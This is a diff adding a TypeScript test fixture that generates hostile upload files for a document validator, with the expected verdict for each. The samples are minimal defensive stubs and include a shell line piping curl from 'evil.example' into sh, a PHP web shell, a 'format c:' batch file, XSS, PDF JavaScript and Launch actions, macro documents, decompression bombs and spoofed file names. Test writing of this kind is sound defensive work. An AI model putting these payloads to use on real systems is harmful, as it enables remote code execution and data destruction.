@@ -1,0 +1,281 @@
+import { deflateSync } from "node:zlib";
+import sharp from "sharp";
+import type { FileFault } from "../../council/documents/rules.ts";
+import { compoundFile, doc, docx, pdf, picture } from "../kit/papers.ts";
+import { zip } from "../kit/zip.ts";
+
+export interface HostileFile {
+  name: string;
+  bytes: Buffer;
+  /** What must be said against it; harmless ones are taken. */
+  verdict: FileFault | "taken";
+}
+
+const endings = ["pdf", "jpg", "jpeg", "png", "doc", "docx"];
+const text = (content: string) => Buffer.from(content, "latin1");
+
+/** Files made to deceive, each with what must become of it; made here, so that none lies about. */
+export async function hostileCorpus(): Promise<HostileFile[]> {
+  const [jpeg, png] = [await picture("jpeg"), await picture("png")];
+  return [
+    ...underOtherNames(),
+    ...(await polyglots(jpeg, png)),
+    ...actingPdfs(),
+    ...macros(),
+    ...bombs(),
+    ...broken(jpeg, png),
+    ...(await wrongEndings(jpeg, png)),
+    ...names(jpeg),
+  ];
+}
+
+/** What is no paper at all, under every ending that is taken and some that are not. */
+function underOtherNames(): HostileFile[] {
+  const contents: [string, Buffer][] = [
+    ["page", text("<!doctype html><script>alert(1)</script>")],
+    ["drawing", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
+    [
+      "drawing with a prologue",
+      text(
+        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+      ),
+    ],
+    ["program", Buffer.concat([text("MZ\x90\x00"), Buffer.alloc(400)])],
+    ["linux program", Buffer.concat([text("\x7fELF\x02\x01\x01"), Buffer.alloc(400)])],
+    ["shell script", text("#!/bin/sh\ncurl evil.example | sh\n")],
+    ["php", text("<?php system($_GET[0]); ?>")],
+    ["batch", text("@echo off\r\nformat c:")],
+    [
+      "jar",
+      zip([
+        { name: "META-INF/MANIFEST.MF", content: "Main-Class: A" },
+        { name: "A.class", content: "cafebabe" },
+      ]),
+    ],
+    ["archive", zip([{ name: "etc/passwd", content: "root" }])],
+    ["picture of the web", text("RIFF\x24\x00\x00\x00WEBPVP8 ")],
+    ["gif", text("GIF89a\x01\x00\x01\x00;")],
+    ["postscript", text("%!PS-Adobe-3.0\n(%pipe%id) (w) file")],
+    ["rich text", text("{\\rtf1{\\object\\objocx}}")],
+    [
+      "shortcut",
+      Buffer.concat([
+        Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
+        Buffer.alloc(80),
+      ]),
+    ],
+    ["installer", compoundFile(["!_StringData", "Property"])],
+  ];
+  const refused = contents.flatMap(([kind, bytes]) =>
+    endings.map((ending): HostileFile => ({
+      name: `${kind}.${ending}`,
+      bytes,
+      verdict: "typeNotSupported",
+    })),
+  );
+  const foreign = ["exe", "svg", "html", "js", "php", "zip", "docm", "pdf.exe", "com"].map(
+    (ending): HostileFile => ({
+      name: `paper.${ending}`,
+      bytes: pdf(),
+      verdict: "typeNotSupported",
+    }),
+  );
+  return [...refused, ...foreign];
+}
+
+async function polyglots(jpeg: Buffer, png: Buffer): Promise<HostileFile[]> {
+  const jar = zip([{ name: "A.class", content: "cafebabe" }]);
+  const html = text("<script>alert(1)</script>");
+  const gifar: HostileFile[] = [
+    ["pdf", pdf()],
+    ["jpg", jpeg],
+    ["png", png],
+    ["doc", doc()],
+  ].map(([ending, front]) => ({
+    name: `front.${String(ending)}`,
+    bytes: Buffer.concat([front as Buffer, jar]),
+    verdict: "typeNotSupported",
+  }));
+  const pages: HostileFile[] = [
+    "<html>",
+    "<script>",
+    "<svg ",
+    "<!doctype html>",
+    "<iframe ",
+    "<?php ",
+  ].map((tag) => ({
+    name: "page.pdf",
+    bytes: Buffer.concat([text(`%PDF-1.4\n${tag}alert(1)\n`), pdf()]),
+    verdict: "typeNotSupported",
+  }));
+  // Markup behind a sound picture: no browser looks for it under the type the picture is handed out with.
+  const behind: HostileFile[] = [
+    ["jpg", jpeg],
+    ["png", png],
+  ].map(([ending, front]) => ({
+    name: `behind.${String(ending)}`,
+    bytes: Buffer.concat([front as Buffer, html]),
+    verdict: "taken",
+  }));
+  return [...gifar, ...pages, ...behind];
+}
+
+function actingPdfs(): HostileFile[] {
+  const object = (content: string) => text(`%PDF-1.7\n1 0 obj\n${content}\nendobj\n%%EOF`);
+  const packed = (content: string) => {
+    const body = deflateSync(text(content));
+    return Buffer.concat([
+      text(
+        `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${body.length} >>\nstream\n`,
+      ),
+      body,
+      text("\nendstream\nendobj\n%%EOF"),
+    ]);
+  };
+  const actions = [
+    "/S /JavaScript /JS (app.alert(1))",
+    "/S/JavaScript/JS 5 0 R",
+    "/S /Launch /F (cmd.exe)",
+    "/S /Launch /Win << /F (calc.exe) >>",
+    "/Subtype /RichMedia",
+    "/S /J#61vaScript /J#53 (x)",
+    "/#4A#61#76#61Script 2 0 R",
+    "/AA << /O << /S /JavaScript /JS (x) >> >>",
+    "/Names << /JavaScript 3 0 R >>",
+    "/S /GoTo /Next << /S /Launch /F (a) >>",
+  ];
+  return actions.flatMap((action): HostileFile[] => [
+    { name: "acting.pdf", bytes: object(`<< ${action} >>`), verdict: "active" },
+    { name: "acting packed.pdf", bytes: packed(`<< ${action} >>`), verdict: "active" },
+  ]);
+}
+
+function macros(): HostileFile[] {
+  const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
+  const parts = [
+    "word/vbaProject.bin",
+    "word/vbaData.xml",
+    "word/activeX/activeX1.xml",
+    "word/embeddings/oleObject1.bin",
+  ];
+  const inDocx = parts.map((name): HostileFile => ({
+    name: "macro.docx",
+    bytes: docx([{ name, content: "x" }]),
+    verdict: "typeNotSupported",
+  }));
+  const inDoc = [["Macros"], ["_VBA_PROJECT"], ["VBA"], ["Macros", "VBA", "_VBA_PROJECT_CUR"]].map(
+    (names): HostileFile => ({
+      name: "macro.doc",
+      bytes: compoundFile(["WordDocument", ...names]),
+      verdict: "typeNotSupported",
+    }),
+  );
+  return [
+    ...inDocx,
+    ...inDoc,
+    { name: "macro type.docx", bytes: docx([], macroType), verdict: "typeNotSupported" },
+    { name: "sheet.doc", bytes: compoundFile(["Workbook"]), verdict: "typeNotSupported" },
+  ];
+}
+
+function bombs(): HostileFile[] {
+  const zeros = Buffer.alloc(80 * 1024 * 1024);
+  return [
+    {
+      name: "bomb.docx",
+      bytes: docx([{ name: "word/document.xml", content: zeros }]),
+      verdict: "typeNotSupported",
+    },
+    {
+      name: "bomb that lies.docx",
+      bytes: docx([{ name: "word/media/a.xml", content: zeros, claimedSize: 10 }]),
+      verdict: "corrupted",
+    },
+    {
+      name: "many parts.docx",
+      bytes: docx(
+        Array.from({ length: 3000 }, (_, part) => ({ name: `word/${part}.xml`, content: "" })),
+      ),
+      verdict: "typeNotSupported",
+    },
+    {
+      name: "packed.pdf",
+      bytes: Buffer.concat([
+        text("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"),
+        deflateSync(zeros),
+        text("\nendstream\nendobj\n%%EOF"),
+      ]),
+      verdict: "active",
+    },
+    {
+      name: "streams.pdf",
+      bytes: text(`%PDF-1.7\n1 0 obj\n${"stream ".repeat(500_000)}`),
+      verdict: "taken",
+    },
+    { name: "huge.png", bytes: hugePng(), verdict: "corrupted" },
+    { name: "large.pdf", bytes: pdf("x", 5 * 1024 * 1024 + 1), verdict: "tooLarge" },
+    { name: "just so.pdf", bytes: pdf("x", 5 * 1024 * 1024), verdict: "taken" },
+  ];
+}
+
+/** A picture of 60000 × 60000 that says so in its header and has nothing behind it. */
+function hugePng(): Buffer {
+  const header = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
+  const size = Buffer.alloc(8);
+  size.writeUInt32BE(60_000, 0);
+  size.writeUInt32BE(60_000, 4);
+  return Buffer.concat([header, size, Buffer.from("0802000000", "hex"), Buffer.alloc(40)]);
+}
+
+function broken(jpeg: Buffer, png: Buffer): HostileFile[] {
+  const cut = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, verdict: "corrupted" });
+  return [
+    ...endings.map((ending): HostileFile => ({
+      name: `empty.${ending}`,
+      bytes: Buffer.alloc(0),
+      verdict: "empty",
+    })),
+    cut("cut.jpg", jpeg.subarray(0, 40)),
+    cut("cut.png", png.subarray(0, 40)),
+    cut("nothing.pdf", text("%PDF-1.4\n")),
+    cut("cut.docx", docx().subarray(0, 200)),
+  ];
+}
+
+/** Sound files of one type under the ending of another. */
+async function wrongEndings(jpeg: Buffer, png: Buffer): Promise<HostileFile[]> {
+  const sound: Record<string, Buffer> = { pdf: pdf(), jpg: jpeg, png, doc: doc(), docx: docx() };
+  const webp = await sharp(png).webp().toBuffer();
+  const pairs = Object.entries(sound).flatMap(([type, bytes]) =>
+    Object.keys(sound).flatMap((ending): HostileFile[] =>
+      ending === type
+        ? []
+        : [{ name: `a ${type}.${ending}`, bytes, verdict: verdictOn(type, ending) }],
+    ),
+  );
+  return [...pairs, { name: "a webp.jpg", bytes: webp, verdict: "typeNotSupported" }];
+}
+
+/** A picture may have another picture's ending: it is handed out as what it is. */
+function verdictOn(type: string, ending: string): HostileFile["verdict"] {
+  const pictures = ["jpg", "png"];
+  return pictures.includes(type) && pictures.includes(ending) ? "taken" : "typeNotSupported";
+}
+
+function names(jpeg: Buffer): HostileFile[] {
+  const refused = [
+    "photo.jpg.exe",
+    "photo.jpg\u202egpj.exe",
+    "photo",
+    ".jpg.",
+    "photo.jp\u0261",
+  ].map((name): HostileFile => ({ name, bytes: jpeg, verdict: "typeNotSupported" }));
+  const taken = [
+    "../../photo.jpg",
+    "C:\\photo.JPG",
+    "photo.exe.jpg",
+    "a".repeat(400) + ".jpg",
+    "\u0000photo.jpg",
+  ].map((name): HostileFile => ({ name, bytes: jpeg, verdict: "taken" }));
+  return [...refused, ...taken];
+}
